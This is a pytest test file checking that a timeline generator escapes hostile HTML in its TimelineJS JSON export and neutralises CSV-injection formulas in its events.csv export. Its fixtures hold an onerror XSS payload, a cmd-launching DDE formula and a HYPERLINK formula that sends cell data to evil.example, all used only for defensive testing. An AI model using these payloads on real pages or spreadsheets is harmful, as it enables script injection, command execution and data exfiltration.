"""The machine-readable exports under hostile text, through ``timeline build``:

* timeline.json: every field TimelineJS puts into the page as HTML (``innerHTML``: headlines,
  texts, display dates, group labels, media captions and credits) holds escaped text or the
  sanitised Markdown, never a tag that runs script;
* events.csv: no cell a spreadsheet would run as a formula (OWASP "CSV injection": a cell starting
  ``= + - @``, a tab or a carriage return gets a leading ``'``), dates such as ``-0043-03-15``
  left as they are, and ``timeline import csv`` reads the export back to the same events.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from bs4 import BeautifulSoup

from generator.content.reader import read_content

HOSTILE = "<img src=x onerror=alert(1)>"
EVENT = "hostile"
PLAIN_EVENT = "formulas"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def project(small_project: Path) -> Path:
    """The small fixture with a place and two events whose words are an attacker's."""
    content = small_project / "content"
    places = content / "places.yaml"
    places.write_text(places.read_text(encoding="utf-8") + (
        "elsewhere:\n"
        f"  name: \"{HOSTILE} Elsewhere\"\n"
        "  country: Nowhere\n"
        "  lat: -36.7\n"
        "  lon: -68.8\n"), encoding="utf-8")
    events = content / "events" / "2015"
    (events / f"{EVENT}.yaml").write_text(
        "date: 2015-10-02\n"
        f"display_date: \"{HOSTILE} early October\"\n"
        f"title: \"{HOSTILE} in the title\"\n"
        f"summary: \"{HOSTILE} in the summary\"\n"
        "place: elsewhere\n"
        "sources:\n  - source: wire\n", encoding="utf-8")
    (events / f"{PLAIN_EVENT}.yaml").write_text(
        "date: -0043-03-15\n"
        "display_date: \"@SUM(1+1)*cmd|' /C calc'!A0\"\n"
        "title: \"=HYPERLINK(\\\"https://evil.example/?\\\"&A1, \\\"Click\\\")\"\n"
        "summary: \"+1+2 and a formula\"\n"
        "body: |\n  - a list item\n  - another\n"
        "tags: [fighting]\n"
        "sources:\n  - source: wire\n", encoding="utf-8")
    return small_project


@pytest.fixture
def site(project: Path, build, tmp_path: Path) -> Path:
    assert build(project, tmp_path / "site") == 0
    return tmp_path / "site"


def innerhtml_fields(slide: dict) -> dict[str, str]:
    """The fields of a TimelineJS slide that TimelineJS 3 writes into the page with ``innerHTML``
    (media/types/Text.js, media/Media.js, timenav/TimeGroup.js, slider/Slide.js), by a name for messages."""
    fields = {"headline": slide["text"].get("headline", ""), "text": slide["text"].get("text", ""),
              "display_date": slide.get("display_date", ""), "group": slide.get("group", "")}
    for end in ("start_date", "end_date"):
        fields[f"{end}.display_date"] = slide.get(end, {}).get("display_date", "")
    for key in ("caption", "credit"):
        fields[f"media.{key}"] = slide.get("media", {}).get(key, "")
    return fields


def test_timeline_json_escapes_every_field_timelinejs_shows_as_html(site):
    data = json.loads((site / "timeline.json").read_text(encoding="utf-8"))
    slides = [data["title"], *data["events"]]
    for slide in slides:
        for name, value in innerhtml_fields(slide).items():
            parsed = BeautifulSoup(value, "html.parser")
            tags = {tag.name for tag in parsed.find_all(True)}
            assert tags <= {"p", "a", "em", "strong", "code", "br", "ul", "ol", "li", "blockquote"}, (name, value)
            handlers = [attr for tag in parsed.find_all(True) for attr in tag.attrs if attr.startswith("on")]
            assert handlers == [], (name, value)
    slide = next(s for s in data["events"] if s["unique_id"] == EVENT)
    shown = {name: BeautifulSoup(value, "html.parser").get_text() for name, value in innerhtml_fields(slide).items()}
    assert shown["headline"] == f"{HOSTILE} in the title"
    assert shown["display_date"] == f"{HOSTILE} early October"
    assert shown["group"] == f"{HOSTILE} Elsewhere"  # no tag: the place's name groups the slide


def csv_rows(site: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO((site / "events.csv").read_text(encoding="utf-8"), newline="")))


def test_no_events_csv_cell_starts_a_formula_and_dates_stay_as_they_are(site):
    rows = csv_rows(site)
    for row in rows:
        for column, cell in row.items():
            if column in ("date", "end_date"):
                continue
            assert not cell.startswith(TRIGGERS), (row["id"], column, cell)
    formulas = next(row for row in rows if row["id"] == PLAIN_EVENT)
    assert formulas["date"] == "-0043-03-15"
    assert formulas["title"] == "'=HYPERLINK(\"https://evil.example/?\"&A1, \"Click\")"
    assert formulas["display_date"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert formulas["summary"] == "'+1+2 and a formula"
    assert formulas["body"] == "'- a list item\n- another"


def test_timeline_import_reads_the_neutralised_csv_back_to_the_same_events(project, site, run_cli, tmp_path):
    target = tmp_path / "imported"
    content = project / "content"
    for name in ("places.yaml", "actors.yaml", "sources"):
        source = content / name
        if source.is_dir():
            (target / name).mkdir(parents=True)
            for file in source.iterdir():
                (target / name / file.name).write_bytes(file.read_bytes())
        else:
            target.mkdir(parents=True, exist_ok=True)
            (target / name).write_bytes(source.read_bytes())
    result = run_cli(["import", "csv", str(site / "events.csv"), "--into", str(target)])
    assert result.code == 0, result.err
    fields = ("date", "display_date", "title", "summary", "body", "place", "tags")
    original = {e.id: tuple(getattr(e, f) for f in fields) for e in read_content(content).events}
    imported = {e.id: tuple(getattr(e, f) for f in fields) for e in read_content(target).events}
    for event_id in (EVENT, PLAIN_EVENT):
        assert imported[event_id] == original[event_id]
